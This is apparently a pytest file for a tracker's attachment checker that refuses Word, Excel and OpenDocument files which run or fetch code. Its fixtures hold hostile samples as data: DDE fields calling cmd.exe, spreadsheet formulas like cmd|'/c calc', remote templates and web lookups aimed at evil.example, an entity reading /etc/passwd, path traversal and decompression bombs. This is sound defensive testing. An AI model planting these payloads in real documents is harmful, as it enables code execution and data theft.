"""Documents are known by their parts: what runs, or fetches what runs, is not taken."""

import io
import zipfile

import pytest
from flask import Flask
from flask_babel import Babel
from xlsxwriter import Workbook

from tests.attachment_samples import (
    DOCX,
    MAIN,
    OFFICE_AT,
    PNG,
    XLSX,
    content_types,
    document,
    open_text,
    packed,
    relationships,
    repacked,
)
from tracker.attachments.fields import RunsWhenOpened
from tracker.attachments.kinds import SPREADSHEET, WORDPROCESSING, check_kind
from tracker.attachments.packages import CHUNK, Allowance, ContainsPrograms, UnsupportedFile

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
RELS = "word/_rels/document.xml.rels"
MICROSOFT_AT = "http://schemas.microsoft.com/office/2006/relationships"
DOCUMENT_XML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
WORD = "application/vnd.ms-word"
OFFICE = "application/vnd.ms-office"


@pytest.fixture(autouse=True)
def words():
    app = Flask("tracker")
    Babel(app)
    with app.test_request_context():
        yield


def check(name: str, content: bytes):
    return check_kind(name, io.BytesIO(content), len(content))


def related(kind: str, target: str, *, external: bool = False, at: str = OFFICE_AT) -> bytes:
    """Return a Word document whose main part has this relation."""
    told = relationships((f"{at}/{kind}", target), external=external)
    return document(parts={RELS: told})


def book_with_chart() -> bytes:
    file = io.BytesIO()
    with Workbook(file) as book:
        sheet = book.add_worksheet()
        sheet.write_column("A1", [1, 2, 3])
        sheet.write_url("B1", "https://example.org/")
        sheet.write_comment("B2", "Who says so?")
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Sheet1!$A$1:$A$3"})
        sheet.insert_chart("C1", chart)
        sheet.insert_image("D1", "a.png", {"image_data": io.BytesIO(PICTURE)})
        sheet.insert_checkbox("E1", True)  # noqa: FBT003
    return file.getvalue()


PICTURE = PNG[:16] + (1).to_bytes(4) * 2 + PNG[24:]
CHART = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"

GOOD = {
    "XlsxWriter with a chart, a picture, a note, a box to tick": ("a.xlsx", book_with_chart()),
    "Word with its usual parts": (
        "a.docx",
        document(
            {
                "word/styles.xml": f"{DOCUMENT_XML}.styles+xml",
                "word/settings.xml": f"{DOCUMENT_XML}.settings+xml",
                "word/stylesWithEffects.xml": f"{WORD}.stylesWithEffects+xml",
                "word/people.xml": f"{DOCUMENT_XML}.people+xml",
                "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
                "docMetadata/LabelInfo.xml": f"{OFFICE}.classificationlabels+xml",
            },
            {"jpeg": "image/jpeg", "emf": "image/x-emf"},
            {
                "word/styles.xml": b"<styles/>",
                "word/settings.xml": b"\xef\xbb\xbf<settings/>",
                "word/stylesWithEffects.xml": b"<styles/>",
                "word/people.xml": b"<people/>",
                "word/media/image1.jpeg": b"\xff\xd8\xff\xe0" + bytes(40),
                "docProps/core.xml": b"<core/>",
                "docMetadata/LabelInfo.xml": b"<labels/>",
                "customXml/item1.xml": b"<item/>",
                RELS: relationships(
                    (f"{OFFICE_AT}/styles", "styles.xml"), (f"{OFFICE_AT}/image", "media/a.jpeg")
                ),
            },
        ),
    ),
    "an embedded font": (
        "a.docx",
        document(
            {},
            {"odttf": "application/vnd.openxmlformats-officedocument.obfuscatedFont"},
            {"word/fonts/font1.odttf": b"\x9c\x8e" + bytes(90)},
        ),
    ),
    "a chart with the workbook of its figures": (
        "a.docx",
        document(
            {"word/charts/chart1.xml": CHART},
            {"xlsx": SPREADSHEET},
            {
                "word/charts/chart1.xml": b"<chart/>",
                "word/charts/_rels/chart1.xml.rels": relationships(
                    (f"{OFFICE_AT}/package", "../embeddings/Microsoft_Excel_Sheet1.xlsx")
                ),
                "word/embeddings/Microsoft_Excel_Sheet1.xlsx": XLSX,
            },
        ),
    ),
    "a printer's settings": (
        "a.xlsx",
        repacked(XLSX, {"xl/printerSettings/printerSettings1.bin": "HP".encode("utf-16") * 99}),
    ),
    "a type declared that no part has": (
        "a.docx",
        document({}, {"bin": "application/vnd.openxmlformats-officedocument.oleObject"}),
    ),
    "a main part of another name": (
        "a.docx",
        packed(
            {
                "[Content_Types].xml": content_types(
                    {"word/document2.xml": f"{WORDPROCESSING}.main+xml"}
                ),
                "_rels/.rels": relationships(
                    (f"{OFFICE_AT}/officeDocument", "/word/document2.xml")
                ),
                "word/document2.xml": b"<document/>",
            }
        ),
    ),
    "the strict edition of the standard": (
        "a.docx",
        repacked(
            DOCX,
            {
                "_rels/.rels": relationships(
                    (
                        "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
                        "word/document.xml",
                    )
                )
            },
        ),
    ),
    "a web address": ("a.docx", related("hyperlink", "https://example.org/", external=True)),
    "a picture of the web": ("a.docx", related("image", "https://example.org/a", external=True)),
    "a template of its writer's own machine": (
        "a.docx",
        related(
            "attachedTemplate", "file:///C:\\Users\\nora\\Templates\\Letter.dotx", external=True
        ),
    ),
    "a link to another workbook": (
        "a.xlsx",
        repacked(
            XLSX,
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
                    (f"{OFFICE_AT}/externalLinkPath", "file:///\\\\server\\share\\b.xlsx"),
                    external=True,
                )
            },
        ),
    ),
    "types in UTF-16": (
        "a.docx",
        repacked(
            DOCX,
            {
                "[Content_Types].xml": content_types(MAIN)
                .decode()
                .replace("UTF-8", "UTF-16")
                .encode("utf-16")
            },
        ),
    ),
    "LibreOffice with its usual parts": (
        "a.odt",
        open_text(
            '<office:scripts/><office:body><text:p><text:a xlink:href="https://example.org/"/>'
            '</text:p><draw:object xlink:href="./Object 1"/></office:body>',
            {
                "Configurations2/": "application/vnd.sun.xml.ui.configuration",
                "Object 1/": "application/vnd.oasis.opendocument.chart",
                "Object 1/content.xml": "text/xml",
                "Pictures/1.png": "image/png",
                "Thumbnails/thumbnail.png": "image/png",
                "manifest.rdf": "application/rdf+xml",
            },
            {
                "Configurations2/images/Bitmaps/": b"",
                "Object 1/content.xml": b"<chart/>",
                "Pictures/1.png": PNG,
                "Thumbnails/thumbnail.png": PNG,
                "layout-cache": b"\x0c\x00" * 9,
                "manifest.rdf": b"<rdf/>",
            },
        ),
    ),
}

RUNS = {
    "macros under another name": (
        "a.docx",
        document(
            {"word/theme/data.xml": f"{OFFICE}.vbaProject"},
            parts={
                "word/theme/data.xml": b"\x01\x02\x03" + bytes(90),
                RELS: relationships((f"{OFFICE_AT}/theme", "theme/data.xml")),
            },
        ),
    ),
    "macros by their relation": (
        "a.docx",
        related("vbaProject", "media/image1.png", at=MICROSOFT_AT),
    ),
    "macros by their relation, in capitals": (
        "a.docx",
        related("VBAPROJECT/", "media/image1.png", at=MICROSOFT_AT),
    ),
    "macros by their content": (
        "a.docx",
        document({}, {"png": "image/png"}, {"word/media/image1.png": OLE}),
    ),
    "macros by the type of their ending": (
        "a.docx",
        document({}, {"dat": f"{OFFICE}.vbaProject; a=b"}, {"word/a.DAT": b"\x00" * 90}),
    ),
    "macros by a type in capitals": (
        "a.docx",
        document(
            {"word/a.dat": "APPLICATION/VND.MS-OFFICE.VBAPROJECT"}, parts={"word/a.dat": b"1"}
        ),
    ),
    "macros of a part that names itself otherwise": (
        "a.docx",
        document({"WORD/%61.dat": f"{OFFICE}.vbaProject"}, parts={"word/a.dat": b"1"}),
    ),
    "what macros are bound to": (
        "a.docx",
        document({"word/b.xml": f"{WORD}.vbaData+xml"}, parts={"word/b.xml": b"<a/>"}),
    ),
    "a sheet of macros": (
        "a.xlsx",
        repacked(
            XLSX,
            {
                "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                    (f"{MICROSOFT_AT}/xlMacrosheet", "../a.xml")
                )
            },
        ),
    ),
    "a control": (
        "a.docx",
        document({"word/a.xml": f"{OFFICE}.activeX+xml"}, parts={"word/a.xml": b"<ocx/>"}),
    ),
    "a control by its relation": ("a.docx", related("control", "a.xml")),
    "an embedded object": ("a.docx", related("oleObject", "embeddings/a.bin")),
    "an embedded object elsewhere": (
        "a.docx",
        related("oleObject", "https://evil.example/a", external=True),
    ),
    "a program": ("a.docx", document(parts={"word/media/a.xml": b"MZ\x90\x00" + bytes(90)})),
    "a program for Linux": ("a.xlsx", repacked(XLSX, {"xl/a.xml": b"\x7fELF" + bytes(90)})),
    "a script": ("a.docx", document(parts={"word/a": b"#!/bin/sh\n"})),
    "a shortcut": ("a.docx", document(parts={"word/a": b"L\x00\x00\x00\x01\x14\x02\x00"})),
    "a page": ("a.docx", document(parts={"word/a.xml": b"\xef\xbb\xbf <!DOCTYPE HTML><script>"})),
    "rich text": ("a.docx", document(parts={"word/a": b"{\\rtf1"})),
    "a piece of another kind": ("a.docx", related("aFChunk", "a.mht")),
    "a template of the web": (
        "a.docx",
        related("attachedTemplate", "https://evil.example/a.dotm", external=True),
    ),
    "a template of the web, written otherwise": (
        "a.docx",
        related("attachedTemplate", " HTTP&#58;//evil.example/a.dotm", external=True),
    ),
    "a template on a share": (
        "a.docx",
        related("attachedTemplate", "file://evil.example/a/b.dotm", external=True),
    ),
    "a template on a share, in Windows' way": (
        "a.docx",
        related("attachedTemplate", "\\\\evil.example\\a\\b.dotm", external=True),
    ),
    "a picture on a share": (
        "a.docx",
        related("image", "file:///\\\\evil.example\\a.png", external=True),
    ),
    "a frame": ("a.docx", related("frame", "https://evil.example/", external=True)),
    "a part elsewhere of no usual kind": (
        "a.docx",
        related("officeDocument2", "https://evil.example/", external=True),
    ),
    "a link that runs": ("a.docx", related("hyperlink", "javascript:alert(1)", external=True)),
    "a live link": (
        "a.xlsx",
        repacked(
            XLSX,
            {
                "[Content_Types].xml": zipfile.ZipFile(io.BytesIO(XLSX))
                .read("[Content_Types].xml")
                .replace(
                    b"</Types>",
                    f'<Override PartName="/xl/a.xml" ContentType="{SPREADSHEET[:-6]}'
                    '.externalLink+xml"/></Types>'.encode(),
                ),
                "xl/a.xml": b'<externalLink xmlns="a"><ddeLink ddeService="cmd"/></externalLink>',
            },
        ),
    ),
    "an add-in": (
        "a.docx",
        document({"word/a.xml": f"{OFFICE}.webextension+xml"}, parts={"word/a.xml": b"<a/>"}),
    ),
    "an unknown type": (
        "a.docx",
        document({"word/a.xml": "application/x-msdownload"}, parts={"word/a.xml": b"<a/>"}),
    ),
    "an embedded document with macros": (
        "a.docx",
        document(
            {},
            {"xlsx": SPREADSHEET},
            {"word/embeddings/a.xlsx": repacked(XLSX, {"xl/media/a.png": OLE})},
        ),
    ),
    "an embedded packed file of no kind": (
        "a.docx",
        document({}, {"png": "image/png"}, {"word/a.png": open_text()}),
    ),
    "an embedded document in an embedded document": (
        "a.docx",
        document(
            {}, {"xlsx": SPREADSHEET}, {"word/a.xlsx": repacked(XLSX, {"xl/media/a.png": XLSX})}
        ),
    ),
    "OpenDocument with a library of macros": (
        "a.odt",
        open_text(parts={"Basic/script-lc.xml": b"<a/>"}),
    ),
    "OpenDocument with a library, in small letters": (
        "a.odt",
        open_text(parts={"basic/Standard/Module1.xml": b"<a/>"}),
    ),
    "OpenDocument with a script": ("a.odt", open_text(parts={"Scripts/python/a.py": b"print()"})),
    "OpenDocument whose list names a script": (
        "a.odt",
        open_text(types={"Scripts/": "application/binary"}),
    ),
    "OpenDocument whose list names macros elsewhere": (
        "a.odt",
        open_text(types={"a/": "application/vnd.sun.star.basic-library"}),
    ),
    "OpenDocument that waits for an event": (
        "a.odt",
        open_text('<script:event-listener script:event-name="dom:load"/>'),
    ),
    "OpenDocument with a link to a macro": (
        "a.odt",
        open_text('<text:a xlink:href=" vnd.sun.star.Script:a?language=Python"/>'),
    ),
    "OpenDocument with a field that runs": ("a.odt", open_text("<text:script>a</text:script>")),
    "OpenDocument with macros in a field": ("a.odt", open_text("<text:execute-macro/>")),
    "OpenDocument with an object": ("a.odt", open_text("<draw:object-ole/>")),
    "OpenDocument with an object by its content": (
        "a.odt",
        open_text(types={"Object 1": "image/png"}, parts={"Object 1": OLE}),
    ),
    "OpenDocument with a program": ("a.odt", open_text(parts={"Pictures/1.png": b"MZ" * 40})),
    "OpenDocument with a document in it": ("a.odt", open_text(parts={"Pictures/1.png": DOCX})),
    "OpenDocument with a toolbar that runs macros": (
        "a.odt",
        open_text(
            parts={
                "Configurations2/toolbar/a.xml": b'<a xmlns:x="b" x:href="macro:///Standard.A.B"/>'
            }
        ),
    ),
}

WORD_AT = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT_AT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
SHEET_AT = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
COMPATIBILITY_AT = "http://schemas.openxmlformats.org/markup-compatibility/2006"
BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)


def run(text: str, name: str = "instrText") -> str:
    return f'<w:r><w:{name} xml:space="preserve">{text}</w:{name}></w:r>'


def field(*pieces: str, result: str = run("1", "t")) -> str:
    """Return a field whose instruction is split over these runs; markup stays as it is."""
    runs = "".join(piece if piece.startswith("<") else run(piece) for piece in pieces)
    return f"{BEGIN}{runs}{SEPARATE}{result}{END}"


def simple(instruction: str) -> str:
    return f'<w:fldSimple w:instr="{instruction}">{run("1", "t")}</w:fldSimple>'


def story(content: str, root: str = "document", at: str = WORD_AT) -> bytes:
    return (
        f'<w:{root} xmlns:w="{at}" xmlns:mc="{COMPATIBILITY_AT}" xmlns:x="urn:x">'
        f"<w:body><w:p>{content}</w:p></w:body></w:{root}>"
    ).encode()


def written(content: str, at: str = WORD_AT) -> tuple[str, bytes]:
    """Return a Word document of this content."""
    return "a.docx", document(parts={"word/document.xml": story(content, at=at)})


def with_part(part: str, root: str, content: str) -> tuple[str, bytes]:
    """Return a Word document with another part, of this content."""
    name = f"word/{part}1.xml"
    return "a.docx", document(
        {name: f"{DOCUMENT_XML}.{part}+xml"}, parts={name: story(content, root)}
    )


def book(name: str, content: str, kind: str = "worksheet") -> tuple[str, bytes]:
    """Return an Excel workbook with another part, of this content."""
    told = f'<Override PartName="/{name}" ContentType="{SPREADSHEET[:-6]}.{kind}+xml"/></Types>'
    types = zipfile.ZipFile(io.BytesIO(XLSX)).read("[Content_Types].xml")
    return "a.xlsx", repacked(
        XLSX,
        {
            "[Content_Types].xml": types.replace(b"</Types>", told.encode()),
            name: f'<a xmlns="{SHEET_AT}" xmlns:x="urn:x">{content}</a>'.encode(),
        },
    )


def cell(formula: str) -> tuple[str, bytes]:
    return book("xl/worksheets/sheet9.xml", f"<c><f>{formula}</f><v>1</v></c>")


def connection(content: str) -> tuple[str, bytes]:
    return book(
        "xl/connections.xml", f'<connection id="1" name="a">{content}</connection>', "connections"
    )


DDE = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"
ADDRESS = "INCLUDEPICTURE &quot;{}&quot; \\* MERGEFORMATINET \\d"
TOC = field(
    ' TOC \\o "1-3" \\h ', result=field(" HYPERLINK \\l _Toc1 ", result=field(" PAGEREF _Toc1 "))
)

GOOD_FIELDS = {
    "a place to click in a template": written(field(" MACROBUTTON NoMacro [Click here] ")),
    "contents, with links and pages": written(TOC),
    "fields of ordinary letters": written(
        "".join(
            field(f" {one} ")
            for one in (
                "PAGE",
                "NUMPAGES",
                "DATE \\@ &quot;d MMMM yyyy&quot;",
                "REF _Ref123 \\h",
                "MERGEFIELD First_name \\* MERGEFORMAT",
                "HYPERLINK &quot;https://example.org/metadata:1&quot;",
                "HYPERLINK \\l &quot;LINK&quot;",
                "SEQ Figure \\* ARABIC",
                "QUOTE &quot;DDE&quot;",
                "=LINK+1",
                "FORMTEXT",
                "LINKED",
            )
        )
    ),
    "fields in fields": written(
        field(" IF ", field(" MERGEFIELD a "), ' = "1" "', run("DDE", "t"), '" "b" ')
        + field(" =", field("PAGE"), "-1 ")
        + field("IF", field("PAGE"), "=1 DDE")
    ),
    "simple fields": written(simple(" PAGE ") + simple(" STYLEREF &quot;Heading 1&quot; ")),
    "text that is no field": written(run("DDEAUTO cmd", "t") + TOC + run("LINK", "t")),
    "a picture of its writer's own machine": written(
        field(ADDRESS.format("C:\\\\Users\\\\nora\\\\a.png"))
        + field(ADDRESS.format("/var/folders/x/page1image5"))
        + field(ADDRESS.format("media/a.png"))
        + field(ADDRESS.format("cid:a@b"), result=field(ADDRESS.format("a.png")))
    ),
    "a text box with a field, written for two programs": written(
        field(
            " PAGE ",
            result="<mc:AlternateContent>"
            f"<mc:Choice><x:box><w:txbxContent>{field('PAGE')}</w:txbxContent></x:box></mc:Choice>"
            f"<mc:Fallback><w:txbxContent>{field('PAGE')}</w:txbxContent></mc:Fallback>"
            "</mc:AlternateContent>",
        )
    ),
    "a footer of the strict edition": (
        "a.docx",
        document(
            {"word/footer1.xml": f"{DOCUMENT_XML}.footer+xml"},
            parts={"word/footer1.xml": story(field("PAGE"), "ftr", STRICT_AT)},
        ),
    ),
    "a picture drawn by lines, with a document type": (
        "a.docx",
        document(
            {}, {"svg": "image/svg+xml"}, {"word/media/a.svg": b"<!DOCTYPE svg><svg>DDE</svg>"}
        ),
    ),
    "formulas": book(
        "xl/worksheets/sheet9.xml",
        "".join(
            f"<c><f>{one}</f></c>"
            for one in (
                "SUM(A1:A9)",
                'A1&amp;" | "&amp;"cmd|x!A0"',
                "'yes | no'!A1+'it''s | so'!A1",
                "Table1[yes | no]",
                "[1]Sheet1!A1",
                "RECALL(A1)",
                'HYPERLINK("https://example.org/")',
            )
        )
        + "<c t='s'><v>cmd|'/c calc'!A0</v></c>",
    ),
    "a connection to its own tables": connection(
        '<dbPr connection="Data Model Connection" command="Model" commandType="1"/>'
    ),
    "a list brought in from a file": connection('<textPr sourceFile="C:\\nora\\a.csv"/>'),
}

RUNNING_FIELDS = {
    "DDE": written(field(f" {DDE} ")),
    "DDE, split over runs": written(field(" D", "DE", run("AU", "instrText"), "TO cmd x ")),
    "DDE, in any case": written(field("\t ddeAuto cmd x")),
    "DDE, after quotes": written(field(' " DDE" cmd x')),
    "DDE, by itself": written(field("DDE")),
    "DDE, with its command at once": written(field("DDE&quot;cmd&quot;")),
    "DDE, without a result": written(f"{BEGIN}{run(DDE)}{END}"),
    "DDE, without an end": written(f"{BEGIN}{run(DDE)}"),
    "DDE, as ordinary text": written(field(run("DDE cmd", "t"))),
    "DDE, in a deleted piece": written(field(run("DDE cmd", "delInstrText"))),
    "DDE, over paragraphs": written(f"{BEGIN}{run('DD')}</w:p><w:p>{run('E a')}{SEPARATE}{END}"),
    "DDE, in a field": written(field(" IF ", field(DDE), " = 1 ")),
    "DDE, in the result of a field": written(field(" PAGE ", result=field(DDE))),
    "DDE, around a field": written(field(" DDE ", field(" QUOTE 99 109 100 "), " x ")),
    "DDE, made by a field": written(field(field(" QUOTE 68 68 69 "), " cmd x ")),
    "DDE, made in part by a field": written(field(" DD", simple("QUOTE E"), " cmd x ")),
    "DDE, in a simple field": written(simple(DDE)),
    "DDE, in the strict edition": written(field(DDE) + simple("PAGE"), STRICT_AT),
    "DDE, in a text box": written(f"<x:box><w:txbxContent>{field(DDE)}</w:txbxContent></x:box>"),
    "DDE, left open in a text box": written(f"<x:box>{BEGIN}{run(DDE)}</x:box>{field('PAGE')}"),
    "DDE, in letters by number": written(field("&#68;&#x44;E cmd")),
    "DDE, in UTF-16": (
        "a.docx",
        document(parts={"word/document.xml": story(field(DDE)).decode().encode("utf-16")}),
    ),
    "a simple field in a header": with_part("header", "hdr", simple(DDE)),
    "a field in a header": with_part("header", "hdr", field(DDE)),
    "a field in a footer": with_part("footer", "ftr", field(DDE)),
    "a field in footnotes": with_part("footnotes", "footnotes", field(DDE)),
    "a field in endnotes": with_part("endnotes", "endnotes", field(DDE)),
    "a field in comments": with_part("comments", "comments", field(DDE)),
    "a field in the glossary": with_part("document.glossary", "glossaryDocument", field(DDE)),
    "a field in a part of another ending": (
        "a.docx",
        document(
            {"word/header1.bin": f"{DOCUMENT_XML}.header+xml"},
            parts={"word/header1.bin": story(field(DDE), "hdr")},
        ),
    ),
    "a button for a macro called almost so": written(field(" MACROBUTTON NoMacro2 Click here ")),
    "a button for a macro": written(field(" MACROBUTTON AutoExec Click here ")),
    "a linked object": written(field(' LINK Excel.Sheet.8 "C:\\a.xls" ')),
    "a database": written(field(' DATABASE \\c "DSN=a" \\s "SELECT 1" ')),
    "a text of the web": written(field(' INCLUDETEXT "https://evil.example/a.docx" ')),
    "a text of this machine": written(field(' INCLUDETEXT "C:\\secret.docx" ')),
    "a text, by its old name": written(field(" INCLUDE a.docx ")),
    "a picture of the web": written(field(ADDRESS.format("https://evil.example/a.png"))),
    "a picture of the web, in capitals": written(field(ADDRESS.format("HTTP://evil.example/a"))),
    "a picture of the web, without quotes": written(field("INCLUDEPICTURE \\d ftp://evil/a")),
    "a picture by a file's address": written(field(ADDRESS.format("file://evil.example/a.png"))),
    "a picture on a share": written(field(ADDRESS.format("\\\\\\\\evil\\\\a.png"))),
    "a picture on a share, with plain bars": written(field("IMPORT \\\\evil\\a.png")),
    "a picture on a share, otherwise": written(field(ADDRESS.format("//evil.example/a.png"))),
    "a picture whose address a field makes": written(
        field(' INCLUDEPICTURE "', field("QUOTE a"), '"')
    ),
    "an index of a document of the web": written(field(" RD https://evil.example/a.docx ")),
    "a link that runs": written(field(' HYPERLINK "ms-msdt:/id PCWDiagnostic" ')),
    "a script in a link": written(simple("HYPERLINK javascript:alert(1)")),
    "a formula that runs": cell("cmd|'/c calc'!A0"),
    "a formula that runs, within another": cell("1+IF(A1=\"'\",'cmd'|'/c calc'!A0,\"'\")"),
    "a formula that runs, all in quotes": cell("'cmd|/c calc'!A0"),
    "a formula that runs, split": cell("cmd<x:x/>|'/c calc'!A0"),
    "a formula that asks the web": cell('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'),
    "a formula that asks a program": cell('RTD("evil.server",,"a")'),
    "a formula in letters of another code": (
        "a.xlsx",
        repacked(
            XLSX,
            {
                "xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="utf-16"?>'
                "<a><f>RTD(A1,A2,A3)</f></a>".encode("utf-16")
            },
        ),
    ),
    "a formula in letters by number": cell("cmd&#124;'/c calc'!A0"),
    "a formula that calls a library": cell('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
    "a name that runs": book(
        "xl/a.xml", "<definedName name='a'>cmd|'/c calc'!A0</definedName>", "sheet.main"
    ),
    "a condition that runs": book(
        "xl/worksheets/sheet9.xml", "<cfRule><formula>cmd|'/c calc'!A0</formula></cfRule>"
    ),
    "a query of the web": connection('<webPr url="https://evil.example/"/>'),
    "a database of Excel": connection('<dbPr connection="DRIVER=SQL Server;SERVER=evil"/>'),
    "a query that gathers": connection('<dbPr connection="Provider=Microsoft.Mashup.OleDb.1"/>'),
    "a list from a share": connection('<textPr sourceFile="\\\\evil\\a.csv"/>'),
    "a connection kept elsewhere": book(
        "xl/connections.xml", '<connection odcFile="https://evil.example/a.odc"/>', "connections"
    ),
    "an embedded workbook that runs": (
        "a.docx",
        document(
            {}, {"xlsx": SPREADSHEET}, {"word/embeddings/a.xlsx": cell("cmd|'/c calc'!A0")[1]}
        ),
    ),
}

TORN_FIELDS = {
    "an end that Word passes over": f"{BEGIN}{run('DD')}<x:x>{END}</x:x>{run('E cmd')}{END}",
    "an end in a text box": field("DD", f"<w:txbxContent>{END}</w:txbxContent>", "E cmd"),
    "a piece that Word passes over": field("DD", f"<x:x>{run('x')}</x:x>", "E cmd"),
    "a mark of no kind": field("DD", '<w:fldChar w:fldCharType="x"/>', "E cmd"),
    "a mark of another edition": field(
        "DD", f'<s:fldChar xmlns:s="{STRICT_AT}" s:fldCharType="end"/>', "E cmd"
    ),
}


def twice(content: bytes, name: str, other: bytes) -> bytes:
    """Return a packed file with a second part of the same name."""
    file = io.BytesIO(content)
    with zipfile.ZipFile(file, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(name, other)
    return file.getvalue()


ENTITIES = b'<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
TYPES = "[Content_Types].xml"
BROKEN = {
    "types with a document type": ("a.docx", repacked(DOCX, {TYPES: ENTITIES + b"<Types/>"})),
    "relations with a document type": (
        "a.docx",
        repacked(DOCX, {"_rels/.rels": ENTITIES + relationships()}),
    ),
    "OpenDocument with a document type": (
        "a.odt",
        open_text(parts={"content.xml": ENTITIES + b"<a/>"}),
    ),
    "types that are no XML": ("a.docx", repacked(DOCX, {TYPES: b"<Types"})),
    "types that no program reads": (
        "a.docx",
        repacked(DOCX, {TYPES: b'<?xml version="1.0" encoding="utf-7"?><Types/>'}),
    ),
    "types twice, in another case": (
        "a.docx",
        repacked(DOCX, {"[content_types].xml": content_types(MAIN)}),
    ),
    "a part twice, in letters written otherwise": (
        "a.docx",
        repacked(DOCX, {"word/%64ocument.xml": b"<a/>"}),
    ),
    "a part twice, from the root": ("a.docx", repacked(DOCX, {"/word/document.xml": b"<a/>"})),
    "a part under another folder's sign": ("a.docx", repacked(DOCX, {"word\\document.xml": b""})),
    "a part out of the folder": ("a.docx", repacked(DOCX, {"word/../../a.xml": b"<a/>"})),
    "two types for one part": (
        "a.docx",
        repacked(
            DOCX,
            {
                TYPES: content_types(
                    MAIN | {"WORD/document.xml": "application/vnd.ms-word.template.main+xml"}
                )
            },
        ),
    ),
    "two main parts": (
        "a.docx",
        repacked(
            DOCX,
            {
                "_rels/.rels": relationships(
                    (f"{OFFICE_AT}/officeDocument", "word/document.xml"),
                    (f"{OFFICE_AT}/officeDocument", "word/other.xml"),
                )
            },
        ),
    ),
    "no main part": ("a.docx", repacked(DOCX, {"_rels/.rels": relationships()})),
    "a main part of another kind": (
        "a.docx",
        repacked(DOCX, {TYPES: content_types({"word/document.xml": f"{SPREADSHEET}.main+xml"})}),
    ),
    "OpenDocument without a list": ("a.odt", packed({"mimetype": b"a", "content.xml": b"<a/>"})),
    "OpenDocument under a password": (
        "a.odt",
        open_text(
            parts={
                "META-INF/manifest.xml": b'<m:manifest xmlns:m="a"><m:file-entry m:full-path="/">'
                b"<m:encryption-data/></m:file-entry></m:manifest>"
            }
        ),
    ),
}


@pytest.mark.parametrize("which", GOOD)
def test_documents_as_people_have_them_are_taken(which: str) -> None:
    assert check(*GOOD[which])


@pytest.mark.parametrize("which", RUNS)
def test_what_runs_or_fetches_what_runs_is_refused(which: str) -> None:
    with pytest.raises(ContainsPrograms, match="a macro, a program or an embedded object"):
        check(*RUNS[which])


@pytest.mark.parametrize("which", GOOD_FIELDS)
def test_fields_and_formulas_as_people_have_them_are_taken(which: str) -> None:
    assert check(*GOOD_FIELDS[which])


@pytest.mark.parametrize("which", RUNNING_FIELDS)
def test_a_field_formula_or_connection_that_runs_or_fetches_is_refused(which: str) -> None:
    with pytest.raises(RunsWhenOpened, match="a field, a formula or a data connection"):
        check(*RUNNING_FIELDS[which])


@pytest.mark.parametrize("which", TORN_FIELDS)
def test_a_field_that_programs_would_end_in_two_places_is_refused(which: str) -> None:
    with pytest.raises(UnsupportedFile, match="damaged"):
        check(*written(TORN_FIELDS[which]))


@pytest.mark.parametrize("which", BROKEN)
def test_what_programs_would_read_in_two_ways_is_refused(which: str) -> None:
    with pytest.raises(UnsupportedFile, match="damaged"):
        check(*BROKEN[which])


@pytest.mark.parametrize(
    "kind",
    [
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "application/vnd.ms-excel.addin.macroEnabled.main+xml",
        "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
    ],
)
def test_a_document_that_may_hold_macros_is_refused_whatever_its_name(kind: str) -> None:
    content = repacked(DOCX, {TYPES: content_types({"word/document.xml": kind})})

    with pytest.raises(ContainsPrograms):
        check("a.docx", content)


def test_a_part_twice_is_refused() -> None:
    with pytest.raises(UnsupportedFile):
        check("a.docx", twice(DOCX, "word/document.xml", b"<a/>"))


def test_a_long_workbook_is_taken() -> None:
    row = "<row>" + "<c><f>A1*2</f><v>12</v></c>" * 10 + "</row>"

    assert check(*book("xl/worksheets/sheet9.xml", row * 50_000))


def test_a_formula_across_two_pieces_of_a_long_workbook_is_refused() -> None:
    running = '<c><f>_xlfn.WEBSERVICE("https://evil.example")</f></c>'
    for shift in range(0, len(running) * 2, 5):
        name, content = book("xl/worksheets/sheet9.xml", " " * (CHUNK - 200 + shift) + running)
        with pytest.raises(RunsWhenOpened):
            check(name, content)


def test_a_list_that_claims_that_a_part_is_small_is_not_believed() -> None:
    long = repacked(DOCX, {"word/_rels/a.rels": b"<a/>" + b" " * 1_000_000})
    at = long.rfind(b"PK\x01\x02")
    lies = long[: at + 24] + (4).to_bytes(4, "little") + long[at + 28 :]

    with pytest.raises(UnsupportedFile):
        check("a.docx", lies)


@pytest.mark.parametrize(
    ("name", "bomb"),
    [
        pytest.param("a.odt", lambda: open_text("<a/>" * 12_000_000), id="elements"),
        pytest.param("a.odt", lambda: open_text("<a>" * 12_000_000), id="depth"),
        pytest.param(
            "a.docx", lambda: written(f"{BEGIN}{run('a')}" * 400_000)[1], id="fields in fields"
        ),
        pytest.param(
            "a.docx", lambda: written(field("DDE " + "&#97;" * 5_000_000))[1], id="letters"
        ),
        pytest.param("a.docx", lambda: written(field('"' * 25_000_000 + "DDE"))[1], id="quotes"),
        pytest.param("a.xlsx", lambda: cell("'|" * 12_000_000)[1], id="formula"),
        pytest.param("a.odt", lambda: open_text(" " * 190_000_000), id="spaces"),
        pytest.param(
            "a.docx",
            lambda: document(
                parts={
                    f"word/_rels/{number}.rels": b"<a>" + b" " * 190_000 for number in range(900)
                }
            ),
            id="relations",
        ),
        pytest.param(
            "a.docx",
            lambda: document(
